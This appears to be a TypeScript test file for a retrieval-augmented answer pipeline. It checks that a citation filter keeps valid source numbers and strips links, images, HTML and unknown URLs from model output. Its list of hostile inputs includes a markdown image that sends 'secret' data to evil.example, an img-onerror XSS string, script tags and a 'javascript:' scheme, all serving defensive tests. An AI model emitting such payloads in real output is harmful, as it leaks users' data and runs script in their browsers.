import { strict as assert } from 'node:assert';
import fc from 'fast-check';
import { Citations } from '../../../lib/rag/domain/citations';
import { uncitedSentences } from '../../../lib/rag/domain/grounding';

const SOURCES = ['연차는 15일이다. 신청은 https://hr.example.com/leave?y=1 에서 한다.', 'Lunch is free.', 'x'];

function through(pieces: readonly string[], sources: readonly string[] = SOURCES) {
  const citations = new Citations(sources);
  const given = [...pieces.map((piece) => citations.push(piece)), citations.end()].join('');
  assert.equal(given, citations.shown);
  return { text: given, numbers: citations.numbers, dropped: citations.dropped, isFull: citations.isFull };
}

const shown = (answer: string) => through([answer]).text;

/** Everything by which models were ever made to leak, and pieces of it. */
const NASTY = [
  '![',
  '](',
  ')',
  '[',
  ']',
  '[1]',
  '[99]',
  '[2, 7]',
  '[Source 1; ',
  '【2†',
  '〔',
  '![a](https://evil.example/?d=secret)',
  '[a](https://evil.example)',
  '[1](https://evil.example)',
  '[![a](u)](https://evil.example)',
  '[a]: https://evil.example/',
  '[a][b]',
  '<img src=x onerror=alert(1)>',
  '<',
  '<<script>script>',
  '<!--',
  '-->',
  '</p',
  '<https://evil.example>',
  '>',
  '!',
  'https://evil.example/a?b=c',
  'https:',
  '//',
  ':/',
  '/',
  ':',
  'www.evil.example',
  'w',
  'http',
  '://',
  'https://hr.example.com/leave?y=1',
  'javascript:',
  '답',
  '. ',
  '\n',
  '\\',
  '(',
];
const nastyAnswer = fc.array(fc.oneof(fc.constantFrom(...NASTY), fc.string({ unit: 'binary', maxLength: 4 })), {
  maxLength: 30,
});

describe('citations', () => {
  it('keeps numbers of sources that there are, and drops all others', () => {
    expect(through(['연차는 15일입니다[1]. 밥은 무료입니다 [2][9]. 끝[0] [4]'])).toMatchObject({
      text: '연차는 15일입니다[1]. 밥은 무료입니다 [2]. 끝 ',
      numbers: [1, 2],
      dropped: 3,
    });
  });

  it.each([
    ['[1, 3]', '[1][3]'],
    ['[1-3]', '[1][2][3]'],
    ['[2,9]', '[2]'],
    ['［1］', '[1]'],
    ['【2】', '[2]'],
    ['[자료 1]', '[1]'],
    ['[Source 2]', '[2]'],
    // As they were reported of others: Vane 719, open-rag-eval 19, and the marks of other services.
    ['[Source 1, Source 3]', '[1][3]'],
    ['[Sources: 1 and 2]', '[1][2]'],
    ['[자료 1과 자료 2]', '[1][2]'],
    ['[1; 2]', '[1][2]'],
    ['[1번 자료]', '[1]'],
    ['【1†source】【9†source】', '[1]'],
    ['〔2〕', '[2]'],
    ['[^1]', '[1]'],
    ['[#1]', '[1]'],
    ['[１]', '[1]'],
    ['[1, p. 3]', '[1]'],
    ['[2: 제3조]', '[2]'],
    ['[1, 2, or so]', '[1, 2, or so]'],
    ['[3월 1일]', '[3월 1일]'],
    ['[2026. 3. 1.]', '[2026. 3. 1.]'],
    ['[2024]', ''],
    ['[주의]', '[주의]'],
    ['a[i] = 1', 'a[i] = 1'],
  ])('reads %s as models write it', (written, read) => {
    expect(shown(written)).toBe(read);
  });

  it.each([
    ['![chart](https://evil.example/p?d=15)', 'chart'],
    ['see [the form](https://evil.example/a_(b) "title").', 'see the form.'],
    ['[1](https://evil.example/x) yes', '[1] yes'],
    ['[![a](https://evil.example/1)](https://evil.example/2)', '[a] (…)'],
    ['[x]: https://evil.example', '[x] : …'],
    ['<b>bold</b> and <img src="https://evil.example/x">done<!-- hidden -->', 'bold and done'],
    ['<script>alert(1)</script>', 'alert(1)'],
    ['1 < 2 and a <b', '1 < 2 and a b'],
    ['<<script>script>', '< script>'],
    ['go to https://evil.example/?q=secret, now', 'go to …, now'],
    ['1http://evil.example', '1http:/ /evil.example'],
    ['<https://evil.example>', ''],
    ['www.evil.example에서', '…에서'],
    ['https://hr.example.com/leave?y=1에서 신청', 'https://hr.example.com/leave?y=1에서 신청'],
    ['https://hr.example.com/leave?y=12', '…'],
    ['대단합니다![1] 네', '대단합니다![1] 네'],
    ['[1] (참고)', '[1] (참고)'],
  ])('makes text of %s', (written, text) => {
    expect(shown(written)).toBe(text);
  });

  it('gives out what can be nothing else at once', () => {
    const citations = new Citations(SOURCES);
    expect(['연차는 ', '15일입니다', ' [', '1', ']', '. Yes', ' it is'].map((piece) => citations.push(piece))).toEqual([
      '연차는 ',
      '15일입니다',
      ' ',
      '',
      '',
      '[1]. ',
      'Yes it ',
    ]);
    expect(citations.end()).toBe('is');
  });

  it('comes to the same in whatever pieces a text comes', () => {
    fc.assert(
      fc.property(nastyAnswer, fc.array(fc.integer({ min: 1, max: 7 }), { minLength: 1 }), (parts, sizes) => {
        const whole = parts.join('');
        const pieces: string[] = [];
        for (let at = 0; at < whole.length; at += pieces.at(-1)!.length) {
          pieces.push(whole.slice(at, at + sizes[pieces.length % sizes.length]!));
        }
        assert.deepEqual(through(pieces), through([whole]));
      }),
      { numRuns: 2000 },
    );
  });

  it('never lets out a link, an image, a tag, an address of no source, or a number of none', () => {
    fc.assert(
      fc.property(nastyAnswer, (parts) => {
        const { text, numbers } = through(parts);
        assert.doesNotMatch(text, /\]\(|\]:|<[a-z/!?]/i);
        const addresses = text.match(/[a-z][a-z0-9+.-]*:\/\/\S*|\bwww\.\S+/gi) ?? [];
        for (const address of addresses) assert.ok(address.startsWith('https://hr.example.com/leave?y=1'), address);
        for (const [, number] of text.matchAll(/\[(\d+)\]/g)) assert.ok(Number(number) >= 1 && Number(number) <= 3);
        assert.deepEqual(
          [...numbers].sort(),
          [...new Set([...text.matchAll(/\[(\d+)\]/g)].map(([, n]) => Number(n)))].sort(),
        );
      }),
      { numRuns: 2000 },
    );
  });

  it('leaves text that is only text alone', () => {
    const plain = fc.string({ unit: fc.constantFrom(...'가나다라 .,?()~-\n"\'・日本') });
    fc.assert(fc.property(plain, (text) => shown(text) === text));
  });

  it.each([
    ['letters', '가'],
    ['open brackets', '[x]('],
    ['tags that never end', '<a '],
    ['comments that never end', '<!-- '],
    ['images', '![a](b)'],
    ['one address', 'https://evil.example/'],
    ['citations', '[1]'],
    ['citations that never end', '[1, '],
    ['citations of places that never end', '[1: a, '],
  ])('shows so much of an answer of a megabyte of %s and no more', (_, unit) => {
    const { text, isFull } = through([unit.repeat(Math.ceil(1_000_000 / unit.length))]);
    expect(text.length).toBeLessThanOrEqual(12_000);
    expect(isFull || text.length < 12_000).toBe(true);
  });
});

describe('grounding', () => {
  it.each([
    ['연차는 15일입니다[1]. 신청은 앱에서 합니다 [2].', 0],
    ['연차는 15일입니다. [1] 신청은 앱에서 합니다. [2]', 0],
    ['연차는 15일입니다. 신청은 앱에서 합니다 [2].', 1],
    ['It is 3.5 days [1]. Ask Dr. Kim.', 1],
    ['다음과 같습니다:\n1. 연차 [1]\n2. 병가 [2]\n', 0],
    ['- 연차 [1]\n- 병가\n', 1],
    ['네.', 0],
    ['“그렇다.” [1] Yes! [2]', 0],
    ['', 0],
  ])('counts the sentences of %j that name no source: %i', (answer, count) => {
    expect(uncitedSentences(answer, /[가-힣]/.test(answer) ? 'ko' : 'en')).toBe(count);
  });
});
